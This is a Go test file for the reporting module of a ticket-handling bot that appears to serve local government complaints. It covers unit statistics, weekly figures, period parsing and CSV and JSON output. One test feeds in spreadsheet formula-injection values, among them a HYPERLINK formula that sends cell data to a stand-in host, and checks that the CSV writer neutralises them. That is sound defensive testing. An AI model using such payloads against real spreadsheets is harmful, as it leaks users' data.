package report_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"math"
	"strings"
	"testing"
	"time"

	"frontdoor/bot/bottest"
	"frontdoor/bot/report"
	"frontdoor/bot/report/reporttest"
	"frontdoor/bot/ticket"
)

func rate(f float64) *float64 { return &f }

func hm(h, m int) time.Duration { return time.Duration(h)*time.Hour + time.Duration(m)*time.Minute }

// fixtureReport writes the fixture and builds its report.
func fixtureReport(t *testing.T) (*report.Report, reporttest.Fixture) {
	t.Helper()
	env := bottest.New(t, bottest.Options{Now: reporttest.Start})
	f := reporttest.Write(t, env)
	from, to, err := report.ParsePeriod(reporttest.From, reporttest.To, env.Tickets.Now(), env.Tickets.Policy().Calendar().Location())
	if err != nil {
		t.Fatal(err)
	}
	r, err := report.Build(context.Background(), env.Tickets, report.Options{Tenant: reporttest.Tenant,
		Region: reporttest.Region, From: from, To: to})
	if err != nil {
		t.Fatal(err)
	}
	return r, f
}

func TestReportFigures(t *testing.T) {
	r, f := fixtureReport(t)
	want := map[string]report.Row{
		reporttest.UnitA: {Unit: reporttest.UnitA, Tickets: 3, Resolved: 3, ResolutionRate: rate(1),
			FirstResponse: report.Stat{Count: 3, Median: hm(1, 0), P90: hm(2, 36)},
			Resolution:    report.Stat{Count: 3, Median: hm(21, 0), P90: hm(49, 0)},
			OnTime:        2, Decided: 3, OnTimeRate: rate(2.0 / 3), OverdueNow: 0,
			Escalations: report.Escalations{Level1: 1, Level2: 1}, Ratings: report.Ratings{Good: 1, Bad: 1},
			BadRated: 1, FollowedUp: 1, FollowupRate: rate(1)},
		reporttest.UnitB: {Unit: reporttest.UnitB, Tickets: 2, Resolved: 0, ResolutionRate: rate(0), BelowTarget: true,
			FirstResponse: report.Stat{Count: 1, Median: hm(2, 0), P90: hm(2, 0)},
			OnTime:        0, Decided: 1, OnTimeRate: rate(0), OverdueNow: 1,
			Escalations: report.Escalations{Level1: 1, Level2: 1, Level3: 1}},
		reporttest.Desk: {Unit: reporttest.Desk, Tickets: 1, Resolved: 1, ResolutionRate: rate(1),
			FirstResponse: report.Stat{Count: 1, Median: hm(0, 30), P90: hm(0, 30)},
			Resolution:    report.Stat{Count: 1, Median: hm(2, 0), P90: hm(2, 0)},
			OnTime:        1, Decided: 1, OnTimeRate: rate(1), Ratings: report.Ratings{Neutral: 1}},
		report.TotalLabel: {Unit: report.TotalLabel, Tickets: 6, Resolved: 4, ResolutionRate: rate(4.0 / 6),
			FirstResponse: report.Stat{Count: 5, Median: hm(1, 0), P90: hm(2, 36)},
			Resolution:    report.Stat{Count: 4, Median: hm(17, 30), P90: hm(45, 30)},
			OnTime:        3, Decided: 5, OnTimeRate: rate(0.6), OverdueNow: 1,
			Escalations: report.Escalations{Level1: 2, Level2: 2, Level3: 1}, Ratings: report.Ratings{Good: 1, Neutral: 1, Bad: 1},
			BadRated: 1, FollowedUp: 1, FollowupRate: rate(1)},
	}
	got := map[string]report.Row{report.TotalLabel: r.Total}
	var order []string
	for _, row := range r.Units {
		got[row.Unit] = row
		order = append(order, row.Unit)
	}
	if strings.Join(order, ",") != strings.Join([]string{reporttest.UnitA, reporttest.UnitB, reporttest.Desk}, ",") {
		t.Errorf("units = %v, want A, B, desk (busiest first)", order)
	}
	for name, w := range want {
		t.Run(name, func(t *testing.T) {
			g, ok := got[name]
			if !ok {
				t.Fatalf("no row for %s", name)
			}
			compareRow(t, g, w)
		})
	}
	t.Run("overdue list", func(t *testing.T) {
		if len(r.Overdue) != 1 {
			t.Fatalf("overdue = %+v, want only %s", r.Overdue, f.T3)
		}
		o := r.Overdue[0]
		due := time.Date(2026, 3, 10, 23, 59, 59, 0, o.Due.Location())
		if o.ID != f.T3 || o.Unit != reporttest.UnitB || !o.Due.Equal(due) || o.Late != 15*time.Hour ||
			o.Level != 3 || o.LevelName != "问责" {
			t.Errorf("overdue[0] = %+v", o)
		}
	})
	t.Run("weeks", func(t *testing.T) {
		if len(r.Weeks) != 2 {
			t.Fatalf("weeks = %+v", r.Weeks)
		}
		type wk struct{ tickets, resolved, onTime, decided, overdue, bad int }
		for i, w := range []wk{{4, 3, 2, 4, 1, 1}, {2, 1, 1, 1, 0, 0}} {
			g := r.Weeks[i]
			if (wk{g.Tickets, g.Resolved, g.OnTime, g.Decided, g.Overdue, g.Bad}) != w {
				t.Errorf("week %d (%s) = %+v, want %+v", i, g.Start, g, w)
			}
		}
		if !r.Weeks[0].Start.Equal(reporttest.At(2026, 3, 2, 0, 0)) || !r.Weeks[1].Start.Equal(reporttest.At(2026, 3, 9, 0, 0)) {
			t.Errorf("week starts = %s, %s", r.Weeks[0].Start, r.Weeks[1].Start)
		}
		if !sameRate(r.Weeks[0].OnTimeRate, rate(0.5)) || !sameRate(r.Weeks[1].OnTimeRate, rate(1)) {
			t.Errorf("weekly on-time rates = %v, %v", report.Percent(r.Weeks[0].OnTimeRate), report.Percent(r.Weeks[1].OnTimeRate))
		}
	})
}

func compareRow(t *testing.T, g, w report.Row) {
	t.Helper()
	ints := []struct {
		name      string
		got, want int
	}{
		{"tickets", g.Tickets, w.Tickets}, {"resolved", g.Resolved, w.Resolved}, {"on_time", g.OnTime, w.OnTime},
		{"decided", g.Decided, w.Decided}, {"overdue_now", g.OverdueNow, w.OverdueNow},
		{"bad_rated", g.BadRated, w.BadRated}, {"followed_up", g.FollowedUp, w.FollowedUp},
	}
	for _, c := range ints {
		if c.got != c.want {
			t.Errorf("%s = %d, want %d", c.name, c.got, c.want)
		}
	}
	if g.FirstResponse != w.FirstResponse {
		t.Errorf("first response = %+v, want %+v", g.FirstResponse, w.FirstResponse)
	}
	if g.Resolution != w.Resolution {
		t.Errorf("resolution = %+v, want %+v", g.Resolution, w.Resolution)
	}
	if g.Escalations != w.Escalations {
		t.Errorf("escalations = %+v, want %+v", g.Escalations, w.Escalations)
	}
	if g.Ratings != w.Ratings {
		t.Errorf("ratings = %+v, want %+v", g.Ratings, w.Ratings)
	}
	for _, c := range []struct {
		name      string
		got, want *float64
	}{{"resolution_rate", g.ResolutionRate, w.ResolutionRate}, {"on_time_rate", g.OnTimeRate, w.OnTimeRate},
		{"followup_rate", g.FollowupRate, w.FollowupRate}} {
		if !sameRate(c.got, c.want) {
			t.Errorf("%s = %s, want %s", c.name, report.Percent(c.got), report.Percent(c.want))
		}
	}
	if g.BelowTarget != w.BelowTarget {
		t.Errorf("below_target = %v, want %v", g.BelowTarget, w.BelowTarget)
	}
}

func sameRate(a, b *float64) bool {
	if a == nil || b == nil {
		return a == nil && b == nil
	}
	return math.Abs(*a-*b) < 1e-9
}

// TestOutputsAgree: the JSON and the CSV say the same as the figures.
func TestOutputsAgree(t *testing.T) {
	r, _ := fixtureReport(t)
	raw, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	var js struct {
		Total struct {
			Tickets       int `json:"tickets"`
			FirstResponse struct {
				MedianSeconds int64   `json:"median_seconds"`
				P90Hours      float64 `json:"p90_hours"`
			} `json:"first_response"`
		} `json:"total"`
	}
	if err := json.Unmarshal(raw, &js); err != nil {
		t.Fatal(err)
	}
	if js.Total.Tickets != 6 || js.Total.FirstResponse.MedianSeconds != 3600 || js.Total.FirstResponse.P90Hours != 2.6 {
		t.Errorf("json total = %+v", js.Total)
	}
	var buf bytes.Buffer
	if err := report.WriteCSV(&buf, r); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 || strings.Join(rows[0], ",") != strings.Join(report.CSVHeader, ",") {
		t.Fatalf("csv = %v", rows)
	}
	last := rows[4]
	if last[0] != report.TotalLabel || last[1] != "6" || last[3] != "0.6667" || last[6] != "1.00" || last[7] != "2.60" ||
		last[9] != "17.50" || last[10] != "45.50" || last[13] != "0.6000" {
		t.Errorf("csv total = %v", last)
	}
	var table bytes.Buffer
	if err := report.WriteTable(&table, r); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{reporttest.UnitA, "66.7%", "17.50", "问责"} {
		if !strings.Contains(table.String(), want) {
			t.Errorf("table lacks %q:\n%s", want, table.String())
		}
	}
}

func TestParsePeriod(t *testing.T) {
	loc := reporttest.Now.Location()
	now := reporttest.At(2026, 3, 13, 10, 0)
	tests := []struct {
		name         string
		from, to     string
		wantFrom     time.Time
		wantTo       time.Time
		wantErrorSub string
	}{
		{"defaults: the 30 days to the end of today", "", "", reporttest.At(2026, 2, 12, 0, 0), reporttest.At(2026, 3, 14, 0, 0), ""},
		{"dates", "2026-03-02", "2026-03-16", reporttest.At(2026, 3, 2, 0, 0), reporttest.At(2026, 3, 16, 0, 0), ""},
		{"rfc3339", "2026-03-02T08:00:00+08:00", "2026-03-02T18:00:00+08:00", reporttest.At(2026, 3, 2, 8, 0), reporttest.At(2026, 3, 2, 18, 0), ""},
		{"from only", "2026-03-01", "", reporttest.At(2026, 3, 1, 0, 0), reporttest.At(2026, 3, 14, 0, 0), ""},
		{"bad from", "yesterday", "", time.Time{}, time.Time{}, "bad_from"},
		{"bad to", "", "2026/03/01", time.Time{}, time.Time{}, "bad_to"},
		{"reversed", "2026-03-16", "2026-03-02", time.Time{}, time.Time{}, "bad_period"},
		{"empty period", "2026-03-02", "2026-03-02", time.Time{}, time.Time{}, "bad_period"},
		{"too long", "2020-01-01", "2026-01-01", time.Time{}, time.Time{}, "period_too_long"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, to, err := report.ParsePeriod(tt.from, tt.to, now, loc)
			if tt.wantErrorSub != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErrorSub) {
					t.Fatalf("err = %v, want %s", err, tt.wantErrorSub)
				}
				return
			}
			if err != nil || !f.Equal(tt.wantFrom) || !to.Equal(tt.wantTo) {
				t.Errorf("= %s, %s, %v; want %s, %s", f, to, err, tt.wantFrom, tt.wantTo)
			}
		})
	}
}

func TestEmptyReport(t *testing.T) {
	env := bottest.New(t, bottest.Options{Now: reporttest.Now})
	r, err := report.Build(context.Background(), env.Tickets, report.Options{Tenant: "demo", Region: reporttest.Region,
		From: reporttest.At(2026, 3, 2, 0, 0), To: reporttest.At(2026, 3, 16, 0, 0)})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Units) != 0 || r.Total.Tickets != 0 || r.Total.ResolutionRate != nil || len(r.Weeks) != 2 {
		t.Errorf("empty report = %+v", r)
	}
	raw, _ := json.Marshal(r)
	if !strings.Contains(string(raw), `"median_seconds":null`) || !strings.Contains(string(raw), `"units":[]`) {
		t.Errorf("empty report JSON = %s", raw)
	}
}

// TestCSVNeutralisesFormulas: a unit name a spreadsheet would run as a
// formula is written as text.
func TestCSVNeutralisesFormulas(t *testing.T) {
	names := []string{`=HYPERLINK("http://x.example/?"&A1,"点我")`, "@SUM(A1:A9)", "+1+2", "-1+2", "\tx", "\rx", "市场监管局"}
	r := &report.Report{Total: report.Row{Unit: "合计"}}
	for _, n := range names {
		r.Units = append(r.Units, report.Row{Unit: n})
	}
	var buf bytes.Buffer
	if err := report.WriteCSV(&buf, r); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, n := range names {
		t.Run(n, func(t *testing.T) {
			got := rows[i+1][0]
			if strings.ContainsRune("=+-@\t\r", rune(got[0])) {
				t.Errorf("cell %q would run as a formula", got)
			}
			if strings.TrimPrefix(got, "'") != n {
				t.Errorf("cell %q lost the name %q", got, n)
			}
		})
	}
}

// TestReturnsExtensionsAndDispatch: 退单 count against the unit that
// returned, 改派 against the dispatcher who re-assigned, 延期 against the
// unit that asked.
func TestReturnsExtensionsAndDispatch(t *testing.T) {
	env := bottest.New(t, bottest.Options{Now: reporttest.Start})
	now := reporttest.Start
	mk := func(id string, units []string) *ticket.Ticket {
		return &ticket.Ticket{ID: id, Tenant: reporttest.Tenant, Region: reporttest.Region, Kind: ticket.Complaint,
			Status: ticket.Routed, Units: units, Created: now.Add(-time.Hour), Clocks: map[string]*ticket.Clock{}}
	}
	a := mk("A", []string{reporttest.UnitB})
	a.Returns = []ticket.Return{
		{Unit: reporttest.UnitA, By: "a1", Reason: "不属本局", ReassignedBy: "disp-1", ReassignedTo: reporttest.UnitB},
	}
	b := mk("B", []string{"区中小企业服务局"})
	b.Status = ticket.Returned
	b.Returns = []ticket.Return{
		{Unit: reporttest.UnitA, By: "a1", Reason: "不属本局", ReassignedBy: "disp-1", ReassignedTo: reporttest.UnitB},
		{Unit: reporttest.UnitB, By: "b1", Reason: "也不属本局"},
	}
	c := mk("C", []string{reporttest.UnitA})
	c.Tasks = []ticket.Task{
		{Unit: "区公安分局", State: ticket.TaskDone, Due: now, EndedAt: now.Add(-time.Minute)},
		{Unit: "区公安分局", State: ticket.TaskOpen, Due: now.Add(-time.Minute)},
		{Unit: reporttest.UnitB, State: ticket.TaskReleased, Due: now.Add(time.Hour)},
	}
	c.Extensions = []ticket.Extension{{Unit: reporttest.UnitA, Days: 3, State: ticket.ExtensionRefused},
		{Unit: reporttest.UnitA, Days: 2, State: ticket.ExtensionApproved}, {Unit: reporttest.UnitA, Days: 2, State: ticket.ExtensionPending}}
	r := report.Compute([]*ticket.Ticket{a, b, c}, env.Tickets.Policy(), now,
		report.Options{Tenant: reporttest.Tenant, Region: reporttest.Region, From: now.Add(-24 * time.Hour), To: now})
	rows := map[string]report.Row{}
	for _, row := range r.Units {
		rows[row.Unit] = row
	}
	if got := rows[reporttest.UnitA]; got.Returned != 2 || got.ExtensionsAsked != 3 || got.ExtensionsApproved != 1 {
		t.Errorf("%s: returned %d, extensions %d/%d", reporttest.UnitA, got.Returned, got.ExtensionsApproved, got.ExtensionsAsked)
	}
	if got := rows[reporttest.UnitB]; got.Returned != 1 || got.Tickets != 1 {
		t.Errorf("%s: returned %d tickets %d", reporttest.UnitB, got.Returned, got.Tickets)
	}
	if r.Total.Returned != 3 || r.Total.ExtensionsAsked != 3 || r.Total.ExtensionsApproved != 1 {
		t.Errorf("total: %+v", r.Total)
	}
	if got := rows["区公安分局"]; got.Cooperations != 2 || got.CooperationsOnTime != 1 || got.CooperationsLate != 1 || got.Tickets != 0 {
		t.Errorf("区公安分局: %+v", got)
	}
	if r.Total.Cooperations != 3 || r.Total.CooperationsOnTime != 1 {
		t.Errorf("total cooperations: %+v", r.Total)
	}
	if len(r.Dispatch) != 1 || r.Dispatch[0] != (report.Dispatch{Name: "disp-1", Reassigned: 2}) {
		t.Errorf("dispatch = %+v", r.Dispatch)
	}
	var buf bytes.Buffer
	if err := report.WriteCSV(&buf, r); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "returned,extensions_asked,extensions_approved") {
		t.Errorf("CSV header lacks the new columns: %s", strings.SplitN(buf.String(), "\n", 2)[0])
	}
}
